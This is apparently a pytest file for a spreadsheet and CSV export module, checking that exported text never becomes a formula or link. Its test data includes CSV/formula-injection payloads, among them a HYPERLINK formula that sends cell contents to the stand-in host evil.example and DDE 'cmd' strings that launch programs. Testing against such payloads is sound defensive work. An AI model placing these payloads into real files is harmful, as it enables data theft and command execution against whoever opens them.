"""What goes out as a table says what was written and does nothing else."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO

import pytest

from shishu.files import read_table
from shishu.files.sheets_out import Cell, Column, write_csv, write_xlsx

pytestmark = pytest.mark.once

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
MARKUP = (
    "<r><t>x</t></r>",
    "<f>1+1</f>",
    "a & b < c",
    "_x0041_ 不是A",
    "http://evil.example/",
    "  两边有空格  ",
    "行一\n行二",
)
TITLES = [Column("名称"), Column("数", 8)]


def workbook(rows: list[list[Cell]], head: tuple[str, ...] = ()) -> bytes:
    stream = BytesIO()
    write_xlsx(stream, head, TITLES, rows)
    return stream.getvalue()


def parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def written_csv(rows: list[list[Cell]], head: tuple[str, ...] = ()) -> bytes:
    stream = BytesIO()
    write_csv(stream, head, TITLES, rows)
    return stream.getvalue()


def cells(content: bytes) -> list[tuple[str, ...]]:
    return [tuple(row) for row in csv.reader(StringIO(content.decode("utf-8-sig"), newline=""))]


def test_no_text_becomes_a_formula_or_a_link() -> None:
    everywhere = workbook([[text, text] for text in FORMULAS + MARKUP], head=FORMULAS)
    found = parts(everywhere)

    assert not [name for name, xml in found.items() if re.search(r"<f[ >/]|hyperlink", xml)]
    assert not [name for name in found if "rels" in name and "External" in found[name]]


def test_text_reads_back_unchanged_but_for_the_blanks_that_reading_takes_off() -> None:
    texts = [text for text in FORMULAS + MARKUP if text == text.strip() or text.startswith("  ")]

    table = read_table(workbook([[text, 1] for text in texts]), "out.xlsx")

    assert [row[0] for row in table.rows] == [text.strip() for text in texts]


def test_a_carriage_return_and_a_typed_escape_are_told_apart() -> None:
    sheet = parts(workbook([["\r=1+1", "_x000D_"]]))["xl/worksheets/sheet1.xml"]

    assert "_x000D_=1+1" in sheet
    assert "_x005F_x000D_" in sheet


def test_numbers_are_written_by_their_own_digits() -> None:
    numbers: list[Cell] = [Decimal("8.7"), Decimal("0.1"), Decimal("-1234.50"), 20, Decimal("123456789012345678"), 0]

    sheet = parts(workbook([["", number] for number in numbers]))["xl/worksheets/sheet1.xml"]
    table = read_table(workbook([["", number] for number in numbers]), "out.xlsx")

    assert re.findall(r"<v>(.*?)</v>", sheet) == ["8.7", "0.1", "-1234.5", "20", "0"]
    assert '<t xml:space="preserve">123456789012345678</t>' in sheet
    assert [row[1] for row in table.rows] == ["8.7", "0.1", "-1234.5", "20", "123456789012345678", "0"]


def test_a_day_is_a_day_and_one_before_1900_is_text() -> None:
    table = read_table(workbook([["", date(2026, 10, 20)], ["", date(1898, 7, 1)]]), "out.xlsx")

    assert [row[1] for row in table.rows] == ["2026-10-20", "1898-07-01"]


def test_a_csv_guards_text_that_would_be_a_formula_but_not_numbers() -> None:
    content = written_csv([[text, -5] for text in FORMULAS], head=("=1+1",))

    assert content.startswith(b"\xef\xbb\xbf")
    assert cells(content)[0] == ("'=1+1",)
    assert cells(content)[2:] == [(f"'{text}", "-5") for text in FORMULAS]


def test_a_csv_keeps_other_text_as_it_is() -> None:
    content = written_csv([["甲，乙\n“丙”", Decimal("12.50")], [None, date(2026, 1, 2)]])

    assert cells(content)[1:] == [("甲，乙\n“丙”", "12.5"), ("", "2026-01-02")]


def test_a_text_longer_than_a_cell_says_that_it_was_cut() -> None:
    sheet = parts(workbook([["长" * 40_000, 1]]))["xl/worksheets/sheet1.xml"]

    assert "（太长，余下的请看页面）" in sheet


def test_the_head_lines_stand_above_the_titles() -> None:
    head = ("甲村 2026年10月", "演示数据，不是任何单位的真实记录")

    assert cells(written_csv([["a", 1]], head=head)) == [(head[0],), (head[1],), ("名称", "数"), ("a", "1")]
    sheet = parts(workbook([["a", 1]], head=head))["xl/worksheets/sheet1.xml"]
    assert re.findall(r'<c r="(\w+)"', sheet) == ["A1", "A2", "A3", "B3", "A4", "B4"]
